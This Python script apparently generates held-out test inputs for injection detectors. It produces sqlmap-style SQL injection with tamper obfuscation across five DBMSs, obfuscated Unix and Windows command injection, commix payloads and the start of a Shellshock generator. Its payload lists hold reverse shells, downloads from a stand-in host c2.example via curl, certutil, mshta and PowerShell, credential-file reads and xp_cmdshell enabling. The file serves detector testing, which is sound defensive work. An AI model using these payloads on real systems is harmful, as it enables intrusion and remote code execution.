#!/usr/bin/env python3
"""gen-heldout-inj.py - write held-out positive tables for the injection
detectors, in forms the older generators (gen-sqli-xss.py, gen-trav-cmdi.py,
gen-unseen.py, gen-evade.py, gen-xxe-shellshock.py) do not write:

  tests/data/gen-heldout-sqli.txt   SQL injection as an automated tool
      writes it: a boundary (prefix closing the literal or parentheses the
      value lands in, suffix rebalancing or commenting out the rest) x a
      technique (boolean, error, UNION, stacked, time, inline, ORDER BY /
      GROUP BY / HAVING positions) per DBMS (MySQL, PostgreSQL, MSSQL,
      Oracle, SQLite) x one or two tamper transforms of the kinds sqlmap
      documents (space to comment/dash/hash/blank, between, greatest,
      randomcase, randomcomments, charencode, chardoubleencode,
      charunicodeencode, equaltolike, apostrophemask, apostrophenullencode,
      versionedkeywords, halfversionedmorekeywords, modsecurityversioned,
      unionalltounion, symboliclogical, commalesslimit, scientific, ...).
  tests/data/gen-heldout-cmdi.txt   command lines for Unix shells and
      cmd.exe/PowerShell: separators and substitutions x quoting tricks
      (c''at, c\\at, c$@at, ${PATH:0:1}, /???/c?t, $'\\x63at', brace and
      IFS joins, here-strings, base64/rev pipelines) x landing context;
      and an interpreter started after a plain word (x&&python -c ...).
  tests/data/gen-heldout-cmdline.txt  a whole value that is a command line
      with no separator (cat /etc/passwd, uname -a, net user, type
      c:\\windows\\win.ini), as payload lists carry them.
  tests/data/gen-heldout-b64.txt  SQL injection wrapped in base64 whole
      (sqlmap's base64encode tamper).
  tests/data/gen-heldout-commix.txt  command injection as commix writes it
      (results-, time-, file- and eval-based; Windows FOR /F, PowerShell).
  tests/data/gen-heldout-shell.txt, -jndi.txt, -ssti.txt: Shellshock
      function definitions in every header/value shape, Log4Shell lookups
      with nested obfuscation, server-side template expressions.

Each line is one value as it would arrive in a query string: characters a
URL cannot carry raw are percent-encoded (the detectors decode them).
Written from the grammars, not copied from any list. Deterministic
(seeded; SEED=n in the environment draws another table of the same
grammar, one the detectors were not fixed against). Usage:
tools/gen-heldout-inj.py [DIR] (default tests/data)."""
import os
import random
import re
import sys

R = random.Random(int(os.environ.get("SEED", "4242")))


def n4():
    return str(R.randint(1000, 9999))


def rs(k=4):
    return "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(k))


def hx(k=8):
    return "0x" + "".join(R.choice("0123456789abcdef") for _ in range(k))


# ---- SQL: boundaries --------------------------------------------------------

def boundary():
    """(prefix, suffix-after-payload) of the kinds an automated tool tries:
    the value may close a literal and 0-3 parentheses, then either comment
    the rest out or rebalance it with a harmless tail."""
    q = R.choice(["", "", "'", "'", '"', "%'", "')", "'))", ")", "))", '")', "`)"])
    base = R.choice(["1", n4(), "-" + n4(), rs(5), "", "1.0"])
    opens = q.count(")")
    qc = q.replace(")", "").replace("%", "")[:1]
    end = R.random()
    if end < 0.4:
        suf = R.choice(["-- -", "--+", "#", "-- " + rs(4), "/*", ";%00", "-- ", "--", ";--"])
    elif end < 0.75 and (qc or opens):
        x = rs(4)
        if qc == "`":
            qc = "'"
        if q == "%'":
            suf = " AND '%'='"
        elif qc:
            suf = " AND " + "(" * opens + "%s%s%s=%s%s" % (qc, x, qc, qc, x)
        else:
            a = n4()
            suf = " AND " + "(" * opens + "%s=%s" % (a, a)
    else:
        suf = ""
    return base + q, suf


def cond():
    a = n4()
    return R.choice([
        "%s=%s" % (a, a), "%s>%s" % (a, int(a) - R.randint(1, 9)),
        "ASCII(SUBSTRING(CURRENT_USER(),1,1))>%d" % R.randint(40, 120),
        "ORD(MID(DATABASE(),%d,1))>%d" % (R.randint(1, 9), R.randint(40, 120)),
        "UNICODE(SUBSTRING(SYSTEM_USER,1,1))>%d" % R.randint(40, 120),
        "SUBSTR(USER,1,1)='%s'" % R.choice("ASUX"),
        "LENGTH(CURRENT_DATABASE())>%d" % R.randint(1, 9),
        "(SELECT COUNT(*) FROM information_schema.tables)>%d" % R.randint(1, 99),
        "%s IN (%s,%s)" % (a, a, n4()),
        "'%s' LIKE '%s'" % (rs(3).lower(), "%"),
        "NOT %s=%s" % (a, n4()),
    ])


def sq_bool(d):
    a = n4()
    c = cond()
    return R.choice([
        "AND %s" % c, "OR %s" % c, "OR NOT %s=%s" % (a, n4()), "AND %s=%s" % (a, a),
        "AND (SELECT %s FROM DUAL WHERE %s)=%s" % (a, c, a),
        "AND %s=(SELECT %s WHERE %s)" % (a, a, c),
        "HAVING %s" % c, "WHERE %s AND %s" % (c, c),
        "AND %s=IF((%s),%s,(SELECT %s UNION SELECT %s))" % (a, c, a, a, n4()),
        "AND %s=(CASE WHEN (%s) THEN %s ELSE 0 END)" % (a, c, a),
        "AND SUBSTRING(@@version,1,1)=%d" % R.randint(4, 8),
        "AND 1=(SELECT 1 FROM pg_user WHERE usename=CURRENT_USER AND usesuper IS TRUE)",
        "AND (SELECT ASCII(SUBSTR((SELECT banner FROM v$version WHERE ROWNUM=1),1,1)) FROM DUAL)>%d" % R.randint(40, 120),
        "AND %s=(SELECT (CASE WHEN (%s) THEN %s ELSE %s*(SELECT %s FROM master..sysdatabases) END))" % (a, c, a, a, a),
        "AND IIF((%s),1,1/0)=1" % c, "AND %s=LIKELIHOOD(%s,0.5)" % (a, a) if d == "sqlite" else "AND 'a'='a' AND %s" % c,
        "OR %s NOT BETWEEN 0 AND %s" % (a, int(a) - 1), "AND GREATEST(%s,%s)=%s" % (a, int(a) + 1, a),
    ])


def sq_error(d):
    a = n4()
    c = cond()
    return R.choice({
        "mysql": ["AND EXTRACTVALUE(%s,CONCAT(0x5c,%s,(SELECT (ELT(%s=%s,1))),%s))" % (a, hx(), a, a, hx()),
                  "OR UPDATEXML(%s,CONCAT(0x2e,%s,(SELECT MID((IFNULL(CAST(USER() AS NCHAR),0x20)),1,50)),%s),%s)" % (a, hx(), hx(), a),
                  "AND (SELECT %s FROM(SELECT COUNT(*),CONCAT(%s,(SELECT (ELT(%s=%s,1))),%s,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)" % (a, hx(), a, a, hx()),
                  "PROCEDURE ANALYSE(EXTRACTVALUE(%s,CONCAT(0x5c,%s,(SELECT (ELT(%s=%s,1))),%s)),1)" % (a, hx(), a, a, hx()),
                  "AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(%s,(SELECT (ELT(%s=%s,1))),%s)) USING utf8)))" % (hx(), a, a, hx()),
                  "OR EXP(~(SELECT * FROM (SELECT CONCAT(%s,(SELECT USER()),%s))x))" % (hx(), hx())],
        "pgsql": ["AND %s=CAST((CHR(113)||CHR(106))||(SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END))::text||(CHR(113)) AS NUMERIC)" % (a, c),
                  "AND %s=CAST(CURRENT_USER||%s AS INTEGER)" % (a, a),
                  "OR 1::int=(SELECT version())::int"],
        "mssql": ["AND %s IN (SELECT (CHAR(113)+CHAR(106)+(SELECT (CASE WHEN (%s) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)))" % (a, c),
                  "AND %s=CONVERT(INT,(SELECT DB_NAME()))" % a,
                  "OR 1=CAST(@@SERVERNAME AS INT)", "AND %s=(SELECT %s WHERE 1=CONVERT(INT,SYSTEM_USER))" % (a, a)],
        "oracle": ["AND %s=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT USER FROM DUAL)||CHR(62))) FROM DUAL)" % a,
                   "AND %s=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE ROWNUM=1))" % a,
                   "AND %s=CTXSYS.DRITHSX.SN(%s,(SELECT USER FROM DUAL))" % (a, a),
                   "OR %s=ORDSYS.ORD_DICOM.GETMAPPINGXPATH((SELECT USER FROM DUAL),%s,%s)" % (a, a, a)],
        "sqlite": ["AND %s=CAST(sqlite_version() AS INTEGER)" % a,
                   "AND %s=(SELECT CASE WHEN (%s) THEN %s ELSE ABS(-9223372036854775808) END)" % (a, c, a)],
    }[d])


def sq_union(d):
    k = R.randint(1, 10)
    cols = [R.choice(["NULL", "NULL", str(R.randint(1, 9)), "'" + rs(3) + "'"]) for _ in range(k)]
    cols[R.randrange(k)] = R.choice({
        "mysql": ["CONCAT(%s,IFNULL(CAST(schema_name AS CHAR),0x20),%s)" % (hx(), hx()), "@@datadir",
                  "GROUP_CONCAT(column_name SEPARATOR 0x3c62723e)", "LOAD_FILE(0x2f6574632f706173737764)"],
        "pgsql": ["(CHR(113)||CHR(118))||COALESCE(usename::text,(CHR(32)))", "current_setting(CHR(100)||CHR(97))",
                  "string_agg(tablename,',')"],
        "mssql": ["CHAR(113)+ISNULL(CAST(name AS NVARCHAR(4000)),CHAR(32))+CHAR(113)", "@@servername",
                  "DB_NAME()", "SUSER_NAME()"],
        "oracle": ["CHR(113)||NVL(CAST(username AS VARCHAR(4000)),CHR(32))||CHR(113)", "banner", "SYS.DATABASE_NAME"],
        "sqlite": ["group_concat(sql)", "sqlite_version()", "tbl_name"],
    }[d])
    sel = R.choice(["UNION ALL SELECT ", "UNION SELECT ", "union all select ", "UNION DISTINCT SELECT "])
    tail = {"mysql": R.choice(["", " FROM INFORMATION_SCHEMA.SCHEMATA", " FROM mysql.user", " LIMIT 0,1"]),
            "pgsql": R.choice(["", " FROM pg_user", " FROM pg_tables OFFSET 1 LIMIT 1"]),
            "mssql": R.choice(["", " FROM master..sysdatabases", " FROM sys.tables"]),
            "oracle": R.choice([" FROM DUAL", " FROM ALL_USERS", " FROM v$version"]),
            "sqlite": R.choice(["", " FROM sqlite_master", " FROM sqlite_master WHERE type='table'"])}[d]
    return sel + ",".join(cols) + tail


def sq_stacked(d):
    t = R.randint(2, 9)
    return R.choice({
        "mysql": [";SELECT SLEEP(%d)#" % t, ";SELECT BENCHMARK(%d000000,MD5(0x41))" % t,
                  ";SET @a=%s;PREPARE s FROM @a;EXECUTE s" % hx(16), ";CREATE USER x IDENTIFIED BY 'y'",
                  ";GRANT ALL ON *.* TO x"],
        "pgsql": [";SELECT PG_SLEEP(%d)--" % t, ";DROP TABLE IF EXISTS x;CREATE TABLE x(t TEXT)",
                  ";COPY (SELECT '') TO PROGRAM 'nslookup x.example'", ";ALTER USER postgres WITH PASSWORD 'x'",
                  ";CREATE OR REPLACE FUNCTION s(int) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE C STRICT"],
        "mssql": [";WAITFOR DELAY '0:0:%d'--" % t, ";EXEC('sel'+'ect 1')", ";EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE",
                  ";DECLARE @q VARCHAR(8000);SET @q=%s;EXEC(@q)" % hx(20), ";exec master.dbo.xp_dirtree '\\\\x.example\\a'",
                  ";INSERT INTO OPENROWSET('SQLOLEDB','x';'sa';'p','SELECT 1') SELECT 1"],
        "oracle": [";BEGIN DBMS_LOCK.SLEEP(%d);END;" % t, ";EXECUTE IMMEDIATE 'DROP TABLE x'",
                   ";BEGIN DBMS_SESSION.SLEEP(%d); END;" % t],
        "sqlite": [";SELECT LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % t,
                   ";ATTACH DATABASE '/var/www/s.php' AS s;CREATE TABLE s.t(x TEXT)"],
    }[d])


def sq_time(d):
    a = n4()
    t = R.randint(2, 9)
    c = cond()
    return R.choice({
        "mysql": ["AND (SELECT %s FROM (SELECT(SLEEP(%d-(IF(%s,0,%d)))))%s)" % (a, t, c, t, rs()),
                  "OR %s=IF((%s),SLEEP(%d),%s)" % (a, c, t, a), "AND SLEEP(%d)#" % t,
                  "AND %s=BENCHMARK(%d000000,MD5(0x%s))" % (a, t, "41424344"),
                  "OR (SELECT * FROM (SELECT(SLEEP(%d)))%s)" % (t, rs()), "AND 0 OR SLEEP(%d)" % t,
                  "RLIKE (SELECT (CASE WHEN (%s) THEN SLEEP(%d) ELSE 0x28 END))" % (c, t)],
        "pgsql": ["AND %s=(CASE WHEN (%s) THEN (SELECT %s FROM PG_SLEEP(%d)) ELSE %s END)" % (a, c, a, t, a),
                  "OR %s=(SELECT %s FROM PG_SLEEP(%d))" % (a, a, t), "AND 1=(SELECT 1 FROM pg_sleep(%d))" % t,
                  "AND %s=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%d000000))" % (a, t)],
        "mssql": ["WAITFOR DELAY '0:0:%d'" % t, "IF(%s) WAITFOR DELAY '00:00:0%d'" % (c, t),
                  "AND %s=(SELECT COUNT(*) FROM sysusers AS s1,sysusers AS s2,sysusers AS s3,sysusers AS s4)" % a,
                  "WAITFOR DELAY '0:0:%d'--" % t],
        "oracle": ["AND %s=DBMS_PIPE.RECEIVE_MESSAGE(CHR(%d)||CHR(%d),%d)" % (a, R.randint(65, 90), R.randint(65, 90), t),
                   "AND %s=(CASE WHEN (%s) THEN DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),%d) ELSE %s END)" % (a, c, t, a),
                   "OR %s=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)" % a],
        "sqlite": ["AND %s=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % (a, t),
                   "OR %s=(CASE WHEN (%s) THEN LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(%d00000000/2)))) ELSE %s END)" % (a, c, t, a)],
    }[d])


def sq_position():
    """Injections into ORDER BY / GROUP BY / a column list, as tools probe them."""
    a = n4()
    c = cond()
    return R.choice([
        ",(SELECT (CASE WHEN (%s) THEN 1 ELSE %s*(SELECT %s FROM INFORMATION_SCHEMA.PLUGINS) END))" % (c, a, a),
        "(SELECT (CASE WHEN (%s) THEN 1 ELSE 1*(SELECT 1 UNION ALL SELECT 2) END))" % c,
        ",(SELECT %s FROM (SELECT(SLEEP(%d)))%s)" % (a, R.randint(2, 9), rs()),
        "(CASE WHEN (%s) THEN %s ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END)" % (c, a),
        "%s,(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % (R.choice(["id", "name", "1"]), c),
        "IF((%s),1,(SELECT 1 FROM information_schema.tables))" % c,
        "(SELECT 1 FROM (SELECT SLEEP(%d))x)" % R.randint(2, 9),
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,VERSION())),1)",
    ])


SQ_TECH = [sq_bool, sq_bool, sq_error, sq_union, sq_stacked, sq_time]
DBMS = ["mysql", "mysql", "pgsql", "mssql", "oracle", "sqlite"]
KW = ["UNION", "ALL", "SELECT", "FROM", "WHERE", "AND", "OR", "SLEEP", "CASE", "WHEN", "THEN", "ELSE",
      "END", "CONCAT", "IF", "NULL", "WAITFOR", "DELAY", "LIKE", "HAVING", "ORDER", "BY", "IN", "NOT", "EXEC"]


def tokens_map(s, f):
    out, w = [], ""
    for ch in list(s) + [None]:
        if ch is not None and (ch.isalnum() or ch == "_"):
            w += ch
            continue
        if w:
            out.append(f(w))
            w = ""
        if ch is not None:
            out.append(ch)
    return "".join(out)


def pct(s, keep="", dbl=False, uni=False):
    out, i = [], 0
    while i < len(s):
        ch = s[i]
        i += 1
        if ch == "%" and re.match(r"[0-9A-Fa-f]{2}", s[i:i + 2]):
            out.append(s[i - 1:i + 2])  # an escape already there stays
            i += 2
        elif ch == "\0" or ch in keep:
            out.append(ch)
        elif uni:
            out.append("%%u%04X" % ord(ch))
        else:
            out.append(("%%25%02X" if dbl else "%%%02X") % ord(ch))
    return "".join(out)


def tamper(s, enc=False):
    """One of sqlmap's documented transforms, written from its description:
    a syntactic one, or (enc) one that only re-encodes characters."""
    t = R.choice(ENCODINGS) if enc else R.choice([k for k in range(26) if k not in ENCODINGS])
    if t == 0:   # space2comment
        return s.replace(" ", "/**/")
    if t == 1:   # space2dash
        return s.replace(" ", "--%s%%0A" % rs(6))
    if t == 2:   # space2hash / space2morehash
        return s.replace(" ", "%%23%s%%0A" % rs(R.randint(1, 8)))
    if t == 3:   # space2mssqlblank / space2mysqlblank / space2randomblank
        return "".join(R.choice(["%01", "%02", "%09", "%0A", "%0B", "%0C", "%0D", "%A0", "%0B"]) if c == " " else c for c in s)
    if t == 4:   # between
        return s.replace(">", " NOT BETWEEN 0 AND ", 1) if ">" in s else s.replace("=", " BETWEEN %s AND " % "1", 0) or s
    if t == 5:   # randomcase
        return tokens_map(s, lambda w: "".join(c.upper() if R.random() < 0.5 else c.lower() for c in w))
    if t == 6:   # randomcomments
        return tokens_map(s, lambda w: "/**/".join(w) if w.upper() in KW and len(w) > 2 and R.random() < 0.6 else w)
    if t == 7:   # charencode
        return pct(s)
    if t == 8:   # chardoubleencode
        return pct(s, keep="0123456789", dbl=True)
    if t == 9:   # charunicodeencode
        return pct(s, uni=True)
    if t == 10:  # equaltolike
        return s.replace("=", " LIKE ")
    if t == 11:  # apostrophemask / apostrophenullencode
        return s.replace("'", R.choice(["%EF%BC%87", "%00%27"]))
    if t == 12:  # versionedkeywords
        return tokens_map(s, lambda w: "/*!%s*/" % w if w.upper() in KW else w)
    if t == 13:  # halfversionedmorekeywords
        return tokens_map(s, lambda w: "/*!0%s" % w if w.upper() in KW else w)
    if t == 14:  # modsecurityversioned / modsecurityzeroversioned
        i = s.find(" AND ")
        if i < 0:
            i = s.find(" OR ")
        if i >= 0:
            v = R.choice(["%05d" % R.randint(10000, 50000), "00000"])
            return s[:i] + " /*!%s%s*/" % (v, s[i + 1:].split("--")[0].split("#")[0]) + "-- "
        return s
    if t == 15:  # unionalltounion + space2plus
        return s.replace("UNION ALL SELECT", "UNION SELECT").replace(" ", "\0")
    if t == 16:  # symboliclogical
        return s.replace(" AND ", " %26%26 ").replace(" OR ", " || ")
    if t == 17:  # scientific / misunion / dunion: a number glued to UNION
        return re.sub(r"([0-9]) UNION", lambda m: m.group(1) + R.choice(["e0UNION", ".e1UNION", "DUNION", ".0UNION"]), s, count=1)
    if t == 18:  # multiplespaces
        return tokens_map(s, lambda w: " " * R.randint(1, 3) + w + " " * R.randint(0, 3) if w.upper() in KW else w)
    if t == 19:  # commentbeforeparentheses
        return s.replace("(", "/**/(")
    if t == 20:  # space2mysqldash with newline %0A only
        return s.replace(" ", "%0A")
    if t == 21:  # informationschemacomment / ifnull2ifisnull
        return s.replace("information_schema.", "information_schema/**/.").replace("INFORMATION_SCHEMA.", "INFORMATION_SCHEMA/**/.").replace("IFNULL(", "IF(ISNULL(")
    if t == 22:  # bluecoat: a tab for the blank after each keyword, LIKE for =
        return re.sub(r"\b(%s) " % "|".join(KW), r"\1%09", s, flags=re.I).replace("=", " LIKE ")
    if t == 23:  # lowercase / uppercase
        return s.lower() if R.random() < 0.5 else s.upper()
    if t == 24:  # overlongutf8 for non-alphanumerics (escapes already there stay)
        return re.sub(r"%[0-9A-Fa-f]{2}|[^0-9A-Za-z\0]",
                      lambda m: m.group(0) if len(m.group(0)) == 3 or ord(m.group(0)) > 127 else
                      "%%%02X%%%02X" % (0xC0 | (ord(m.group(0)) >> 6), 0x80 | (ord(m.group(0)) & 0x3F)), s)
    return s.replace(" ", "\0")


ENCODINGS = (7, 8, 9, 11, 24)


def sql_line():
    d = R.choice(DBMS)
    if R.random() < 0.1:
        body = sq_position()
        pre = R.choice(["1", "id"]) if body.startswith(",") else ""
        suf = R.choice(["", "-- -", "#"])
    else:
        pre, suf = boundary()
        body = R.choice(SQ_TECH)(d)
        if body.startswith(";"):
            suf = R.choice(["-- -", "--", "#", "", suf])
        else:
            body = " " + body
    v = pre + body + (" " + suf if suf and not suf.startswith(" ") else suf)
    v = tamper(v)
    if R.random() < 0.25:
        v = tamper(v)
    if R.random() < 0.2:
        v = tamper(v, enc=True)
    return v


# ---- command injection ------------------------------------------------------

UCMDS = [["cat", "/etc/passwd"], ["id"], ["whoami"], ["uname", "-a"], ["ls", "-la", "/"], ["sleep", "7"],
         ["nc", "10.9.8.7", "4444", "-e", "/bin/sh"], ["curl", "http://c2.example/s"], ["wget", "c2.example/x"],
         ["cat", "/etc/shadow"], ["ping", "-c", "4", "c2.example"], ["nslookup", "x.c2.example"],
         ["head", "-n1", "/etc/passwd"], ["env"], ["ps", "aux"], ["touch", "/tmp/pwned"],
         ["echo", "pwned"], ["hostname"], ["netstat", "-an"], ["find", "/", "-perm", "-4000"],
         ["tac", "/etc/passwd"], ["more", "/etc/passwd"], ["less", "/etc/hosts"], ["chmod", "777", "/tmp/x"]]


def mangle_word(c):
    r = R.randrange(12)
    k = R.randint(1, max(1, len(c) - 1))
    if r == 0:
        return c[:k] + "''" + c[k:]
    if r == 1:
        return c[:k] + "\\" + c[k:]
    if r == 2:
        return c[:k] + "$@" + c[k:]
    if r == 3:
        return c[:k] + '""' + c[k:]
    if r == 4:
        return "/???/" + c[0] + "?" * (len(c) - 1) if len(c) > 1 else c
    if r == 5:
        return "".join("\\x%02x" % ord(ch) for ch in c).join(["$'", "'"])
    if r == 6:
        return c[:k] + "${" + rs(3).lower() + "}" + c[k:]
    if r == 7:
        return c[:k] + "$()" + c[k:]
    if r == 8:
        return "/b[i]n/" + c[:k] + "[" + c[k] + "]" + c[k + 1:] if len(c) > 1 else c
    if r == 9:
        return "".join("\\%03o" % ord(ch) for ch in c).join(["$'", "'"])
    if r == 10:
        return "$(tr A-Z a-z<<<" + c.upper() + ")"
    return c


def mangle_arg(a):
    if "/" in a and R.random() < 0.5:
        return a.replace("/", R.choice(["${PATH:0:1}", "${HOME:0:1}", "$(echo /)"]))
    if R.random() < 0.2 and len(a) > 3:
        return a[:-1] + "?"
    return a


def ucmd():
    w = R.choice(UCMDS)
    c = [mangle_word(w[0])] + [mangle_arg(a) for a in w[1:]]
    j = R.choice([" ", " ", "${IFS}", "$IFS$9", "%09", "<", "${IFS}"])
    if j == "<" and len(c) != 2:
        j = " "
    s = j.join(c)
    r = R.random()
    line = " ".join(w)
    if r < 0.08:
        return "echo " + b64(line) + "|base64 -d|" + R.choice(["sh", "bash", "$0"])
    if r < 0.14:
        return R.choice(["sh", "bash", "zsh", "$SHELL"]) + "<<<" + R.choice(["'" + line + "'", line.replace(" ", "${IFS}")])
    if r < 0.18:
        return "rev<<<'" + line[::-1] + "'|sh"
    if r < 0.22:
        return "X=" + R.choice(["$'" + line.replace(" ", "\\x20") + "'", line.replace(" ", "$IFS")]) + ";$X"
    return s


def b64(s):
    import base64
    return base64.b64encode(s.encode()).decode()


WCMDS = ["whoami", "dir c:\\", "type c:\\windows\\win.ini", "net user", "ipconfig /all", "systeminfo",
         "ping -n 5 127.0.0.1", "tasklist /v", "net localgroup administrators", "hostname",
         "certutil -urlcache -split -f http://c2.example/a.exe a.exe", "wmic process call create calc.exe",
         "bitsadmin /transfer j http://c2.example/a c:\\a.exe", "mshta http://c2.example/a.hta",
         "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"", "regsvr32 /s /n /u /i:http://c2.example/a.sct scrobj.dll",
         "reg query HKLM\\SAM", "nslookup x.c2.example", "timeout /t 7"]


def wcmd():
    c = R.choice(WCMDS)
    r = R.randrange(9)
    if r == 0:
        c = "^".join(c.split(" ")[0]) + c[len(c.split(" ")[0]):]
    elif r == 1:
        c = R.choice(["%COMSPEC% /c ", "%ComSpec% /C ", "cmd /v:on /c ", "cmd.exe /q /c ", "cmd,/c,", "cmd;/c "]) + c
    elif r == 2:
        c = R.choice(["powershell", "powershell.exe", "pwsh", "PowerShell -NoP -W Hidden"]) + R.choice([" -c ", " -Command ", " "]) + R.choice([
            "\"" + c + "\"", "iex(New-Object Net.WebClient).DownloadString('http://c2.example/a')",
            "Invoke-Expression ('who'+'ami')", "Start-Process calc", "iwr c2.example -OutFile a.exe"])
    elif r == 3:
        v = rs(2).lower()
        c = "set %s=%s&&call %%%s%%" % (v, c.split(" ")[0], v) + c[len(c.split(" ")[0]):]
    elif r == 4:
        c = '"' + c.split(" ")[0] + '"' + c[len(c.split(" ")[0]):]
    elif r == 5:
        c = "for /f %i in ('" + c + "') do %i"
    elif r == 6:
        c = "c:\\windows\\system32\\" + c
    elif r == 7:
        c = c.upper()
    return c


def ctx_sep(win):
    pre = R.choice(["", "", "1", "127.0.0.1", "x.jpg", "a b", "'", '"', "'", "test'", 'x"', "-"])
    q = pre[-1:] if pre[-1:] in "'\"" else ""
    if win:
        sep = R.choice(["&", "&&", "|", "||", "\n", "%1a" if False else "&"])
    else:
        sep = R.choice([";", "|", "||", "&&", "&", "\n", "\r\n", "`", "$(", "%0a", "\n\n", ";;" if False else ";"])
    return pre, q, sep


def cmd_line():
    r = R.random()
    if r < 0.12:
        # an interpreter started after a plain word
        word = R.choice(["x", "abc", "foo", "test", "search", "hello", "1a", "q"])
        sep = R.choice(["&&", "|", "||", ";", "\n", "&"])
        interp = R.choice([
            "python -c 'import os;os.system(\"id\")'", "python3 -c \"__import__('os').system('id')\"",
            "perl -e 'system(\"id\")'", "ruby -e '`id`'", "php -r 'system(\"id\");'", "node -e \"require('child_process').execSync('id')\"",
            "lua -e 'os.execute(\"id\")'", "awk 'BEGIN{system(\"id\")}'", "sh -c id", "bash -c 'id'",
            "python -c \"import socket,subprocess,os\"", "perl -MIO -e 'exec \"/bin/sh\"'"])
        v = word + sep + interp
    else:
        win = R.random() < 0.3
        pre, q, sep = ctx_sep(win)
        c = wcmd() if win else ucmd()
        if win and R.random() < 0.5:
            c = c.replace("%", "%25")
        if sep == "`":
            v = pre + sep + c + "`"
        elif sep == "$(":
            v = pre + "$(" + c + ")"
        else:
            v = pre + sep + R.choice(["", " "]) + c
        t = R.random()
        if q and t < 0.5:
            v += R.choice([" " + q, ";" + q, "&" + q if win else " #" + q, "|" + q])
        elif t < 0.65:
            v += " #" if not win else " &rem "
    return v


def cmdline():
    """A whole value that is a command line, as payload lists write them
    without any separator: the application passes the value to a shell."""
    if R.random() < 0.3:
        c = R.choice(WCMDS)
        c = c.upper() if R.random() < 0.2 else c
    else:
        w = R.choice(UCMDS + [["ls", "-l", "/etc"], ["id", "-u"], ["ps", "-ef"], ["uname", "-r"],
                              ["tail", "-n", "20", "/var/log/syslog"], ["ping", "-c", "3", "127.0.0.1"],
                              ["cat", "/proc/self/environ"], ["grep", "-r", "password", "/etc"],
                              ["nc", "-lvvp", "4444", "-e", "/bin/sh"], ["perl", "-e", "'print 1'"],
                              ["ruby", "-e", "'puts 1'"], ["rm", "-rf", "/tmp/x"], ["echo", "-e", "'\\x41'"]])
        c = " ".join(w)
    q = R.choice(["", "", "", "'", '"'])
    return q + c + q


def b64wrap():
    """sqlmap's base64encode tamper: the whole SQL payload base64
    (standard or URL alphabet), '=' '+' '/' percent-encoded or not."""
    import base64
    d = R.choice(DBMS)
    pre, suf = boundary()
    body = R.choice(SQ_TECH)(d)
    v = pre + ("" if body.startswith(";") else " ") + body + (" " + suf if suf and not suf.startswith(" ") else suf)
    b = base64.b64encode(v.encode())
    if R.random() < 0.3:
        b = base64.urlsafe_b64encode(v.encode())
    b = b.decode()
    if R.random() < 0.5:
        b = b.replace("=", "%3D").replace("+", "%2B").replace("/", "%2F")
    return b


def commix():
    """Command injection as commix (the command injection exploiter) writes
    it: results-based (echo TAG$((a+b))$(echo TAG)TAG), time-based (a
    string's length compared in an if, then sleep), file-based (echo into
    the web root), PHP eval-based (print(`cmd`), ${@print(`cmd`)}), and
    for Windows a FOR /F over cmd /c "set /a" or PowerShell."""
    tag = rs(6).upper()
    a, b = R.randint(1, 99), R.randint(1, 99)
    t = R.randint(2, 9)
    sep = R.choice([";", "|", "&", "&&", "||", "\n", "%0a", "'; ", '"; '])
    cmd = R.choice(["echo " + tag, "id", "whoami", "uname", "cat /etc/passwd", "hostname", "pwd"])
    k = R.randrange(9)
    if k == 0:
        v = sep + "echo %s$((%d+%d))$(echo %s)%s" % (tag, a, b, tag, tag)
    elif k == 1:
        v = sep + "echo %s$(%s)%s" % (tag, cmd, tag)
    elif k == 2:
        n = len(tag)
        v = sep + ("str=$(echo %s);str1=${#str};if [ %d -ne ${str1} ];then sleep 0;else sleep %d;fi"
                   % (tag, n, t))
    elif k == 3:
        v = sep + "if [ %d -ne $(%s|tr -d '\\n'|wc -c) ];then sleep 0;else sleep %d;fi" % (a, cmd, t)
    elif k == 4:
        v = sep + "echo %s>%s" % (tag, R.choice(["/var/www/html/%s.txt" % tag.lower(), "/tmp/" + tag.lower(),
                                              "./%s.txt" % tag.lower()]))
    elif k == 5:
        t4 = tag.lower()[:4]
        code = R.choice(["print(`%s`)" % cmd, "${@print(`%s`)}" % cmd, "{${system(%s)}}" % cmd,
                         "print(`echo %s`)" % tag, "{${print(%s.%s)}}" % (t4, t4), "${@print(%s.%s)}" % (t4, t4),
                         "print(%s.%s)" % (t4, t4), "print(chr(%d).chr(%d))" % (a, b)])
        q = R.choice(["'", '"'])
        # where the eval lands: bare, after a statement end, or inside a
        # PHP string broken and reopened around it
        v = R.choice([code, ";" + code, q + "." + code + "." + q])
    elif k == 6:
        v = R.choice(["|", "&", "||", "&&"]) + ('for /f "tokens=*" %%i in (\'cmd /c "set /a (%d+%d)"\') do @set /p = %s%%i<nul'
                                             % (a, b, tag))
    elif k == 7:
        v = R.choice(["|", "&", "||"]) + "powershell.exe -InputFormat none write '%s'$((%d+%d))" % (tag, a, b)
    else:
        v = sep + "sleep %d" % t + R.choice(["", ";", " #"])
    return v.replace("\n", "%0a")


# ---- Shellshock, Log4Shell, templates -----------------------------------------

def shellshock():
    body = R.choice([":;", ":; ", " :;", "_;", "true;", "echo;", "x;", ":", " :; "])
    defn = R.choice(["() {", "(){", "()  {", "() \t{", "()\t{"]) + R.choice([" ", "", "  "]) + body + R.choice([" }", "}", "  }"])
    tail = R.choice([";", " ;", "; ", ";;"[:1] + " "])
